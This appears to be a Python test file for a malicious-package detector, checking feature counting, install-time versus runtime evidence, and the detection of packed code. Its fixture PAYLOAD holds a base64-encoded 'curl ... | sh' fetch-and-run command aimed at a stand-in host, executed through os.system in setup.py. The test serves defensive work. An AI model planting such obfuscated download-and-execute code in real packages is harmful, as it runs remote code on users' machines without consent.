"""The model's dense features describe behaviour per file, not how statements are laid out
over lines, and an unparsed file's shape token tells packed code from ordinary code."""

from __future__ import annotations

from detector.code.analyze import PACKED_LINE_CHARS, analyze, rule_score, unparsed_shape
from detector.code.model import SEVERITY_COLUMNS
from detector.code.train import new_layout

PAYLOAD = ("import os, base64\n"
           "os.system(base64.b64decode('Y3VybCBodHRwOi8vZXhhbXBsZS5pbnZhbGlkL3ggfCBzaA==')"
           ".decode())\n")


def _dense(files: dict[str, str]) -> dict[str, float]:
    found = analyze(files).findings
    layout = new_layout()
    return dict(zip(layout.dense_names(), layout.dense_row(found, rule_score(found)),
                    strict=True))


def test_repeated_hits_in_one_file_count_once_whatever_the_lines():
    spread = {"setup.py": "import os\nos.system('id')\nos.system('whoami')\n"}
    joined = {"setup.py": "import os\nos.system('id'); os.system('whoami')\n"}
    a, b = _dense(spread), _dense(joined)
    rule_cols = [k for k in a if k.count("|") == 1 and not k.startswith(("severity", "rule_"))]
    assert any(a[k] > 0 for k in rule_cols)
    assert {k: a[k] for k in rule_cols} == {k: b[k] for k in rule_cols}
    assert {k: a[k] for k in a if k.startswith("severity")} == \
        {k: b[k] for k in b if k.startswith("severity")}


def test_hot_and_cold_evidence_land_in_their_own_columns():
    hot = _dense({"setup.py": PAYLOAD})
    cold = _dense({"pkg/__init__.py": "", "pkg/tool.py": f"def run():\n    {PAYLOAD}"})
    assert hot["rule_score|hot"] > 0 and hot["rule_score|cold"] == 0
    assert cold["rule_score|cold"] > 0 and cold["rule_score|hot"] == 0
    assert any(hot[f"severity:{s}|hot"] > 0 for s in SEVERITY_COLUMNS)
    assert not any(cold[f"severity:{s}|hot"] > 0 for s in SEVERITY_COLUMNS)


def test_more_files_with_a_rule_count_more():
    one = _dense({"setup.py": PAYLOAD})
    two = _dense({"setup.py": PAYLOAD + "import helper\n", "helper.py": PAYLOAD})
    assert two["rule_score"] == one["rule_score"]  # the most suspicious file counts
    assert sum(two.values()) > sum(one.values())


def test_unparsed_shape_tells_packed_code_from_cut_code():
    assert unparsed_shape("x = 1\n" * 50 + "def f(:\n") == "u:lines"
    assert unparsed_shape("exec(" + "a" * PACKED_LINE_CHARS + "\n") == "u:packed"
    cut = {"pkg/__init__.py": "import os\n" * 20 + "def f(a,\n"}
    packed = {"pkg/__init__.py": "x = '" + "ab" * PACKED_LINE_CHARS + "\n"}
    assert "hot|u:lines" in analyze(cut).tokens
    assert "hot|u:packed" in analyze(packed).tokens
